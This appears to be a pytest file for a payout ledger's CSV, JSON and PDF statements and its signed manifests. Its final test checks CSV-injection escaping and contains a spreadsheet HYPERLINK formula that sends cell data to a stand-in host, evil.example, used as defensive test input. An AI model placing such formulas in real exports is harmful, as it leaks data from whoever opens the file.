"""Statement files and signed manifests, from plain rows (the database tests cover the rest)."""

from __future__ import annotations

import csv
import json
from dataclasses import dataclass
from datetime import UTC, datetime

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from pypdf import PdfReader
from reportlab.pdfbase.pdfmetrics import stringWidth

from ledger.statements.manifest import read_manifest, verify_manifest, write_manifest
from ledger.money import format_amount
from ledger.payouts.arithmetic import CloseMark, Timeline
from ledger.payouts.periods import parse_period
from ledger.statements.files import RENDERERS
from ledger.statements.lines import EventInfo, build_statements, summarise

NOV = parse_period("2026-11")


def fmt(micros: int) -> str:
    return format_amount(micros, "USD")


@dataclass(frozen=True)
class KeyPair:
    key_id: str
    private_key: Ed25519PrivateKey

    def sign(self, message: bytes) -> bytes:
        return self.private_key.sign(message)


def sample(artist: str = "artist:van-gogh", share: str = "0.7011", test_model: bool = False):
    when = datetime(2026, 11, 3, 9, tzinfo=UTC)
    rows = [
        {"seq": 1, "event_id": "e1", "kind": "reward", "debit_account": "platform:p",
         "credit_account": artist, "amount": 2_345_678, "occurred_at": when, "memo": None},
        {"seq": 2, "event_id": "e1", "kind": "reward", "debit_account": "platform:p",
         "credit_account": "model:sd", "amount": 1_000_000, "occurred_at": when, "memo": None},
        {"seq": 3, "event_id": "payout:2026-11:USD", "kind": "payout", "debit_account": artist,
         "credit_account": "payouts:USD", "amount": 2_340_000, "occurred_at": when, "memo": None},
        {"seq": 4, "event_id": "payout:2026-11:USD", "kind": "payout", "debit_account": "model:sd",
         "credit_account": "payouts:USD", "amount": 1_000_000, "occurred_at": when, "memo": None},
    ]
    timeline = Timeline("monthly", [CloseMark(NOV, 4)])
    events = {"e1": EventInfo("a man <with> a hat", "sd", {artist: share}, test_model)}
    statements = build_statements(NOV, "USD", rows, timeline, events)
    return statements, summarise(NOV, "USD", statements, True, ledger_payouts=3_340_000)


def render_all(out_dir, **kinds):
    statements, summary = sample(**kinds)
    return [path for name in ("csv", "json", "pdf") for path in RENDERERS[name](out_dir, statements, summary, fmt)]


def pdf_pages(out_dir) -> list[str]:
    return [page.extract_text() for page in PdfReader(out_dir / "statements-2026-11-USD.pdf").pages]


def decimal_points(out_dir, page: int, amounts: set[str]) -> dict[str, list[float]]:
    """Where `amounts` have their decimal points on a PDF page (points from the left), in the
    order they are drawn."""
    found: dict[str, list[float]] = {}

    def visit(text, _cm, tm, _font, size):
        text = text.strip()
        if text in amounts:
            found.setdefault(text, []).append(tm[4] + stringWidth(text.partition(".")[0], "Helvetica", size))

    PdfReader(out_dir / "statements-2026-11-USD.pdf").pages[page].extract_text(visitor_text=visit)
    return found


def test_csv_total_row_equals_the_summary(tmp_path):
    render_all(tmp_path)
    with (tmp_path / "statements-2026-11-USD.csv").open() as handle:
        rows = list(csv.DictReader(handle))
    assert [r["account"] for r in rows] == ["artist:van-gogh", "model:sd", "TOTAL"]
    assert rows[0]["payout"] == "2.34" and rows[0]["carried_forward"] == "0.005678"
    assert rows[-1]["payout"] == "3.34" and rows[-1]["credits_total"] == "3.345678"
    with (tmp_path / "lines-2026-11-USD.csv").open() as handle:
        lines = list(csv.DictReader(handle))
    assert lines[0]["content"] == "a man <with> a hat" and lines[0]["share"] == "0.7011"


def test_json_is_decimal_strings(tmp_path):
    render_all(tmp_path)
    document = json.loads((tmp_path / "statements-2026-11-USD.json").read_text())
    assert document["summary"]["payouts"] == {"count": 2, "total": "3.34"}
    assert document["summary"]["reconciles"] is True
    assert document["statements"][0]["credits_by_model"] == {"sd": {"count": 1, "total": "2.345678"}}


def test_pdf_reads_back_with_payee_period_and_totals(tmp_path):
    render_all(tmp_path)
    reader = PdfReader(tmp_path / "statements-2026-11-USD.pdf")
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert len(reader.pages) == 3
    for needle in ("2026-11", "artist:van-gogh", "model:sd", "3.34", "2.345678", "0.005678", "a man <with> a hat"):
        assert needle in text
    assert reader.pages[0].images, "the summary page carries the chart"


def test_manifest_signature_verifies_and_catches_changes(tmp_path):
    files = render_all(tmp_path)
    key = Ed25519PrivateKey.generate()
    write_manifest(tmp_path, files, KeyPair("k1", key), {"period": "2026-11", "currency": "USD"}, 0)
    manifest = read_manifest(tmp_path)
    assert sorted(entry["name"] for entry in manifest["files"]) == sorted(path.name for path in files)
    assert verify_manifest(tmp_path, key.public_key()) == []
    assert verify_manifest(tmp_path, Ed25519PrivateKey.generate().public_key())[0].startswith("The manifest signature")
    csv_path = tmp_path / "statements-2026-11-USD.csv"
    csv_path.write_text(csv_path.read_text().replace("3.34", "4.34"))
    assert verify_manifest(tmp_path, key.public_key()) == [
        "statements-2026-11-USD.csv has changed: its SHA-256 no longer matches the manifest."
    ]
    forged = json.loads((tmp_path / "manifest.json").read_text())
    forged["subject"]["period"] = "2026-10"
    (tmp_path / "manifest.json").write_text(json.dumps(forged))
    assert any("signature" in problem for problem in verify_manifest(tmp_path, key.public_key()))


def test_pdf_reads_like_a_statement(tmp_path):
    """Every payee on the first page, shares rounded (exact in CSV and JSON), amounts lined
    up on their decimal points, a long account id whole, no test-model notice."""
    artist = "artist:" + "an-artist-whose-registered-id-is-as-long-as-ids-may-be-0123456789"[:64]
    render_all(tmp_path, artist=artist, share="0.70114376851")
    pages = pdf_pages(tmp_path)
    assert len(pages) == 3
    first = pages[0].replace("\n", "")
    assert artist in first and "model:sd" in first and "Total" in first  # the payees at a glance
    assert "0.7011" in pages[1] and "0.70114376851" not in "".join(pages)
    assert "shares rounded to 4 decimals" in pages[0]
    assert not any("TEST MODEL" in page.upper() or "test model" in page for page in pages)
    lines = tmp_path / "lines-2026-11-USD.csv"
    assert next(row for row in csv.DictReader(lines.open()) if row["kind"] == "reward")["share"] == "0.70114376851"
    points = decimal_points(tmp_path, 1, {"2.345678", "-2.340000"})  # the totals, then the reward and payout lines
    assert abs(points["2.345678"][-1] - points["-2.340000"][0]) < 0.5  # one number of decimals (issue 23)
    first_table = decimal_points(tmp_path, 0, {"3.345678", "3.340000", "0.005678"})  # the finance summary comes first
    summary = [xs[0] for xs in first_table.values()]
    assert len(summary) == 3 and max(summary) - min(summary) < 0.5


def test_a_test_model_statement_says_so_on_every_page_and_in_every_file(tmp_path):
    render_all(tmp_path, test_model=True)
    pages = pdf_pages(tmp_path)
    assert "TEST MODEL: SHARES MEAN NOTHING" in pages[0]
    assert all(page.count("SHARES MEAN NOTHING") == 1 for page in pages)  # the notice, then a banner per page
    assert "2 of the 2 reward lines" in pages[0]  # the artist's and the model's, from the one event
    document = json.loads((tmp_path / "statements-2026-11-USD.json").read_text())
    assert document["summary"]["test_model"] is True
    assert [s["test_model"] for s in document["statements"]] == [True, True]
    assert [line["test_model"] for line in document["statements"][0]["lines"]] == [True, False]  # the payout is not
    with (tmp_path / "statements-2026-11-USD.csv").open() as handle:
        assert {row["account"]: row["test_model"] for row in csv.DictReader(handle)} == {
            "artist:van-gogh": "yes", "model:sd": "yes", "TOTAL": "yes"}
    with (tmp_path / "lines-2026-11-USD.csv").open() as handle:
        assert [row["test_model"] for row in csv.DictReader(handle)] == ["yes", "no", "yes", "no"]


def test_statements_without_test_model_say_no(tmp_path):
    render_all(tmp_path)
    document = json.loads((tmp_path / "statements-2026-11-USD.json").read_text())
    assert document["summary"]["test_model"] is False and not any(s["test_model"] for s in document["statements"])
    with (tmp_path / "statements-2026-11-USD.csv").open() as handle:
        assert {row["test_model"] for row in csv.DictReader(handle)} == {"no"}


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    """OWASP CSV injection: content, memo, model and share cells starting with = + - @, tab
    or CR get a leading apostrophe; amounts (negative ones too) stay plain numbers."""
    from ledger.statements.files import csv_cell

    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    statements, summary = sample(share="+1")
    line = statements[0].lines[0]
    line.content, line.memo, line.model_id = evil, "@SUM(1+1)", "\tcmd"
    RENDERERS["csv"](tmp_path, statements, summary, fmt)
    with (tmp_path / "lines-2026-11-USD.csv").open(newline="") as handle:
        first = next(csv.DictReader(handle))
    assert first["content"] == "'" + evil and first["memo"] == "'@SUM(1+1)" and first["model_id"] == "'\tcmd"
    assert first["share"] == "'+1"
    assert [csv_cell(v) for v in ("-0.004", "-12", "\rx", "-x", "a=b", 5)] == ["-0.004", "-12", "'\rx", "'-x", "a=b", 5]
    for path in tmp_path.glob("*.csv"):
        for row in csv.reader(path.open(newline="")):
            assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in row)
